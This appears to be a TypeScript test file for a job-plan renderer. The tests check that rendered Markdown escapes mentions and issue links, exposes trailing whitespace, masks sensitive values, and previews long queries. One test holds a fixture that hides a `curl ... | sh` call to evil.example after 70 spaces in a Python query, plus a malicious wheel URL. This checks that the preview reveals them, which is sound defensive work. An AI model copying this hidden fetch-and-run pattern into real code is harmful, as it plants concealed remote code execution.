    const text = renderPlanMarkdown(plan).replace(/(`{3,})diff\n[\s\S]*?\n\1/g, "");
    expect(text).not.toMatch(/www\./i);
    expect(text).toContain("| ➕ | <code>see www&#46;evil.example/login</code> | demo | create |");
    expect(text).toContain("| ➕ | <code>x</code> | WWW&#46;evil.example | create |");
  });

  it("pings no one and links no issue or emoji in the text GitHub reads after rendering: a comment splits @, # and :", () => {
    // Found by posting a warning naming a job "ping @org/team #12 :+1:" (a cancel of a
    // running job): GitHub finds mentions, issues and emoji in the rendered text, where
    // &#64; is already @, so the character reference alone still pinged the whole team.
    const listing = [record({ key: "ping @org/team #12 :+1: x" }, { id: "gone-1", status: "RUNNING" })];
    const plan = computePlan([desired({ key: "new" })], new Map([["demo", listing]]), CLUSTERS, options());
    const text = renderPlanMarkdown(plan);
    expect(text).toContain('- Job "ping &#64;<!-- -->org/team &#35;<!-- -->12 &#58;<!-- -->+1&#58; x" in team demo&#58; the plan cancels');
    expect(text).toContain("| ➖ | <code>ping &#64;<!-- -->org/team &#35;<!-- -->12 &#58;<!-- -->+1&#58; x</code> | demo |");
    // Rendered, the comments are gone and the characters are back: what GitHub reads has no mention.
    const read = text.replace(/<!-- -->/g, "\u0000").replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n)));
    expect(read).not.toMatch(/@org|#12|:\+1:/);
  });

  it("shows the blanks at the end of a removed or added line, where a line that changed only there read the same", () => {
    // Found by planning a query file whose line gained two trailing spaces: the diff read
    // `-print(1)` and `+print(1)  `, and a reviewer saw no change.
    const old = desired({ key: "ws", cron: "@daily", query: "import os\nprint(1)\n" });
    const next = desired({ key: "ws", cron: "@daily", query: "import os  \nprint(1)\t\n" });
    const plan = computePlan([next], new Map([["demo", [record(old)]]]), CLUSTERS, options());
    const lines = renderPlanText(plan, { color: false }).split("\n");
    expect(lines.slice(lines.indexOf("        query:") + 1, lines.indexOf("        query:") + 6)).toEqual([
      "          @@ -1,2 +1,2 @@",
      "          -import os",
      "          -print(1)",
      "          +import os\\u0020\\u0020",
      "          +print(1)\\u0009",
    ]);
    expect(renderPlanMarkdown(plan)).toContain("\n-import os\n-print(1)\n+import os\\u0020\\u0020\n+print(1)\\u0009\n");
  });

  it("links no merge request, epic, label or snippet in the text GitLab reads after rendering", () => {
    // Found by review: the merge request recipe posts the same Markdown as a GitLab note, and
    // GitLab finds !12 (a merge request, which then shows "mentioned in" this one), &12, ~bug
    // and $12 in the rendered text, where &#33; is already !: only @, # and : were split.
    const listing = [record({ key: "see !12 &3 ~bug $4 x!" }, { id: "gone-1", status: "RUNNING" })];
    const plan = computePlan([desired({ key: "new" })], new Map([["demo", listing]]), CLUSTERS, options());
    const text = renderPlanMarkdown(plan);
    expect(text).toContain("| ➖ | <code>see &#33;<!-- -->12 &#38;<!-- -->3 &#126;<!-- -->bug &#36;<!-- -->4 x&#33;</code> | demo |");
    const read = text.replace(/<!-- -->/g, "\u0000").replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n)));
    expect(read).not.toMatch(/!12|&3|~bug|\$4/);
  });

  it("links no issue a name holds as GH-NUMBER", () => {
    // Found by rendering a job named "GH-1": GitHub links GH-26 as it links #26, and the
    // issue's timeline gets a backlink to the pull request, though `#` is escaped. GitHub
    // finds it in the rendered text, where a reference is the character: a comment splits it.
    const plan = computePlan(
      [desired({ key: "fix GH-1" }), desired({ key: "gh-2", team: "gh-3" })],
      new Map([
        ["demo", []],
        ["gh-3", []],
      ]),
      CLUSTERS,
      options({ teams: ["demo", "gh-3"] }),
    );
    const text = renderPlanMarkdown(plan).replace(/(`{3,})diff\n[\s\S]*?\n\1/g, "");
    expect(text).not.toMatch(/gh-/i);
    expect(text).toContain("| ➕ | <code>fix GH&#45;<!-- -->1</code> | demo | create |");
    expect(text).toContain("| ➕ | <code>gh&#45;<!-- -->2</code> | gh&#45;<!-- -->3 | create |");
  });
});

describe("a create", () => {
  it("shows every value it sends, sensitive ones as (sensitive)", async () => {
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-render-"));
    mkdirSync(join(dir, ".git"));
    writeFileSync(join(dir, "labels.csv"), "a,b\n");
    writeFileSync(join(dir, "job.py"), "import datachain as dc\n\nprint(dc)\n");
    writeFileSync(
      join(dir, "studio-jobs.yaml"),
      [
        "version: 1",
        "stack: analytics",
        "defaults: {team: demo, python_version: '3.12'}",
        "jobs:",
        "  full:",
        "    query_file: job.py",
        "    schedule: {cron: '0 3 * * *', start_after: '2026-12-01T00:00:00Z'}",
        "    cluster: {id: 2}",
        "    workers: 4",
        "    priority: 1",
        "    requirements: [numpy==1.24.0, pillow]",
        "    credentials: ${env:CREDS}",
        "    repository: https://github.com/acme/pipelines",
        "    files: [labels.csv]",
        "    environment: {API_KEY: '${env:API_KEY}', LOG_LEVEL: info}",
        "    protect: true",
        "  short:",
        "    query: echo hello",
      ].join("\n"),
    );
    const spec = await loadSpec(["."], dir, { env: { CREDS: "cred-secret", API_KEY: "key-secret" }, vars: {}, defaultTeam: undefined });
    const plan = computePlan(spec.jobs, new Map([["demo", []]]), CLUSTERS, options());
    const text = renderPlanText(plan, { color: false });
    expect(text).toBe(
      [
        "Stack analytics, team demo:",
        "",
        "  +   demo/full  create",
        "        query_type: PYTHON",
        "        query: import datachain as dc … (3 lines)",
        // A schedule that starts later fires first after its start (it showed November's three nights).
        "        schedule.cron: 0 3 * * *   next: 2026-12-01 03:00 UTC, 2026-12-02 03:00 UTC, 2026-12-03 03:00 UTC",
        "        schedule.start_after: 2026-12-01T00:00:00.000Z",
        "        cluster: id 2",
        "        workers: 4",
        "        priority: 1",
        "        python_version: 3.12",
        "        requirements: numpy==1.24.0, pillow",
        "        credentials: (sensitive)",
        "        repository: https://github.com/acme/pipelines",
        `        files: labels.csv (sha256 ${sha256Hex("a,b\n").slice(0, 12)})`,
        "        environment.API_KEY: (sensitive)",
        "        environment.LOG_LEVEL: info",
        "        protect: true",
        "  +   demo/short  create",
        "        query_type: PYTHON",
        "        query: echo hello",
        "        python_version: 3.12",
        "",
        "Plan: 2 to create, 0 to replace, 0 to cancel, 0 unchanged.",
        "",
      ].join("\n"),
    );
    const doc = JSON.parse(renderPlanJson(plan, "1")) as { actions: { after: Record<string, unknown> }[] };
    expect(doc.actions[0]?.after).toEqual({
      query_type: "PYTHON",
      query: "import datachain as dc\n\nprint(dc)\n",
      schedule: { cron: "0 3 * * *", start_after: "2026-12-01T00:00:00.000Z" },
      cluster: { id: 2 },
      workers: 4,
      priority: 1,
      python_version: "3.12",
      requirements: ["numpy==1.24.0", "pillow"],
      credentials: "(sensitive)",
      repository: "https://github.com/acme/pipelines",
      files: [{ name: "labels.csv", sha256: sha256Hex("a,b\n"), size: 4 }],
      environment: { API_KEY: "(sensitive)", LOG_LEVEL: "info" },
      protect: true,
    });
    for (const out of [text, renderPlanMarkdown(plan), renderPlanJson(plan, "1")]) expect(out).not.toMatch(/cred-secret|key-secret/);
  });

  it("says a one-off job's start_after is past, for it runs as soon as it is created", () => {
    // Found reading the example's plan after its date: `schedule.start_after: 2026-12-01...`
    // read like a wait, and the job ran the moment apply made it.
    const jobs = [
      desired({ key: "past", startAfter: "2026-10-31T23:59:00.000Z" }),
      desired({ key: "now", startAfter: "2026-11-01T00:00:00.000Z" }),
      desired({ key: "later", startAfter: "2026-11-01T00:01:00.000Z" }),
      desired({ key: "cron", cron: "0 3 * * *", startAfter: "2026-10-01T00:00:00.000Z" }),
    ];
    const text = renderPlanText(computePlan(jobs, new Map([["demo", []]]), CLUSTERS, options()), { color: false });
    expect(text.split("\n").filter((line) => line.includes("schedule."))).toEqual([
      "        schedule.cron: 0 3 * * *   next: 2026-11-01 03:00 UTC, 2026-11-02 03:00 UTC, 2026-11-03 03:00 UTC",
      "        schedule.start_after: 2026-10-01T00:00:00.000Z",
      "        schedule.start_after: 2026-11-01T00:01:00.000Z",
      "        schedule.start_after: 2026-11-01T00:00:00.000Z   (past: runs when created)",
      "        schedule.start_after: 2026-10-31T23:59:00.000Z   (past: runs when created)",
    ]);
  });

  it("says a one-off job moved to a past start runs as soon as its replacement is made, as a create does, in a saved plan too", () => {
    // Found by a mutation test of the create's note: a waiting job whose start_after was
    // moved behind the plan's time read `schedule.start_after: ... → 2026-10-31...`, a wait,
    // and its replacement ran the moment apply made it.
    const once = (startAfter: string, cron?: string) => desired({ key: "once", startAfter, ...(cron === undefined ? {} : { cron }) });
    const moved = (to: string, cron?: string) => {
      const live = record(once("2026-11-05T00:00:00.000Z", cron), { id: "once-1", status: "QUEUED" });
      const plan = computePlan([once(to, cron)], new Map([["demo", [live]]]), CLUSTERS, options());
      const shown = [renderPlanText(plan, { color: false }), renderPlanText(planDocument(plan, "0.1.0"), { color: false })];
      return shown.map((text) => text.split("\n").filter((line) => line.includes("schedule.start_after")));
    };
    const line = (to: string, note = "") => [`        schedule.start_after: 2026-11-05T00:00:00.000Z → ${to}${note}`];
    const past = line("2026-10-31T00:00:00.000Z", "   (past: runs when created)");
    expect(moved("2026-10-31T00:00:00.000Z")).toEqual([past, past]);
    const later = line("2026-11-02T00:00:00.000Z");
    expect(moved("2026-11-02T00:00:00.000Z")).toEqual([later, later]);
    const schedule = line("2026-10-31T00:00:00.000Z");
    expect(moved("2026-10-31T00:00:00.000Z", "0 3 * * *")).toEqual([schedule, schedule]);
  });

  it("shows every requirement, and how much of a long one-line query it leaves out", () => {
    // Found with "evil-pkg @ ..." as the ninth requirement (past "… (9 in all)") and a
    // command after 70 spaces on the query's one line (past the preview's 60 characters).
    const requirements = [...Array.from({ length: 8 }, (_, i) => `pkg${i}==1.0`), "evil-pkg @ https://evil.example/evil.whl"];
    const query = `print('train')${" ".repeat(70)}; __import__('os').system('curl -s https://evil.example/x | sh')\n`;
    const job = desired({ key: "train", query, requirements: requirements.join("\n") });
    const plan = computePlan([job], new Map([["demo", []]]), CLUSTERS, options());
    const shown = [
      "query: print('train')… (1 line, 148 characters)",
      "requirements: pkg0==1.0, pkg1==1.0, pkg2==1.0, pkg3==1.0, pkg4==1.0, pkg5==1.0, pkg6==1.0, pkg7==1.0, evil-pkg @ https://evil.example/evil.whl",
    ];
    const text = renderPlanText(plan, { color: false });
    const markdown = renderPlanMarkdown(plan);
    for (const line of shown) {
      expect(text).toContain(`\n        ${line}\n`);
      expect(markdown).toContain(`\n+ ${line}\n`);
    }
  });

  it("previews a query by its first line, saying what it leaves out", () => {
    const long = `x = '${"a".repeat(70)}'`;
    expect(
      [
        "print(1)\n",
        `${"b".repeat(60)}\n`,
        `${"b".repeat(61)}\n`,
        long,
        `${long}\nprint(x)\n`,
        "import os\n\nprint(os)\n",
        "\n\n  # first\nprint(1)",
        `${"c".repeat(10)}${"\t".repeat(60)}d`,
        `${"e".repeat(58)}😀😀`,
      ].map((query) => queryPreview(query)),
    ).toEqual([
      "print(1)",
      "b".repeat(60),
      `${"b".repeat(59)}… (1 line, 61 characters)`,
      `x = '${"a".repeat(54)}… (1 line, 76 characters)`,
      `x = '${"a".repeat(54)}… (2 lines)`,
      "import os … (3 lines)",
      "  # first … (4 lines)",
      `${"c".repeat(10)}… (1 line, 71 characters)`,
      // Cut inside an emoji: not half of it (printed as U+FFFD, or as an escape).
      `${"e".repeat(58)}… (1 line, 62 characters)`,
    ]);
  });

  it("quotes a created value that would not read as itself: empty, or blank at an end", () => {
    // Found with a spec's `environment: {A: "", B: " "}`: the create read `environment.A: ` and
    // `environment.B:  `, a trailing blank no reader sees. A sensitive value's placeholder is not quoted.
    const job = desired({ key: "j", environment: { A: "", B: " ", C: "x", D: "s3cret" }, sensitive: ["environment.D"] });
    const text = renderPlanText(computePlan([job], new Map([["demo", []]]), CLUSTERS, options()), { color: false });
    expect(text.split("\n").filter((line) => line.includes("environment."))).toEqual([
      '        environment.A: ""',
      '        environment.B: " "',
      "        environment.C: x",
      "        environment.D: (sensitive)",
    ]);
  });

  it("lists every requirement line a create sends, blank ones quoted, but the empty line after a final line break", () => {
    // Found with a spec's `requirements: [numpy, "", "  ", pandas, ""]`: the create read
    // `requirements: numpy, pandas`, blank lines dropped, while apply sent them.
    const texts = ["numpy\npandas\n", "numpy\n\n  \npandas\n", "numpy\n\n", "\n", "numpy\npandas"];
    const jobs = texts.map((requirements, i) => desired({ key: `j${i}`, requirements }));
    const text = renderPlanText(computePlan(jobs, new Map([["demo", []]]), CLUSTERS, options()), { color: false });
    expect(text.split("\n").filter((line) => line.includes("requirements:"))).toEqual([
      "        requirements: numpy, pandas",
      '        requirements: numpy, "", "  ", pandas',
      '        requirements: numpy, ""',
      '        requirements: ""',
      "        requirements: numpy, pandas",
    ]);
  });
});

describe("a created text value and a diff's context line", () => {
  it("quotes a text field's value that would not read as itself, and keeps a context line's trailing blanks as they are", async () => {
    // A spec's `python_version: '3.12 '` read `python_version: 3.12 `, the blank unseen.
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-render-"));
    writeFileSync(
      join(dir, "studio-jobs.yaml"),
      ["version: 1", "stack: analytics", "jobs:", "  j:", "    team: demo", "    query: print(1)", "    python_version: '3.12 '"].join(
        "\n",
      ),
    );
    const spec = await loadSpec(["."], dir, { env: {}, vars: {}, defaultTeam: undefined });
    const text = renderPlanText(computePlan(spec.jobs, new Map([["demo", []]]), CLUSTERS, options()), { color: false });
    expect(text.split("\n").filter((line) => line.includes("python_version"))).toEqual(['        python_version: "3.12 "']);
    // Only a removed or added line shows its trailing blanks as escapes: an unchanged one is as it was.
    const old = desired({ key: "ws", cron: "@daily", query: "import os  \nprint(1)\n" });
    const next = desired({ key: "ws", cron: "@daily", query: "import os  \nprint(2)\n" });
    const lines = renderPlanText(computePlan([next], new Map([["demo", [record(old)]]]), CLUSTERS, options()), { color: false }).split(
      "\n",
    );
    expect(lines.slice(lines.indexOf("        query:") + 1, lines.indexOf("        query:") + 5)).toEqual([
      "          @@ -1,2 +1,2 @@",
      "           import os  ",
      "          -print(1)",
      "          +print(2)",
    ]);
  });
});
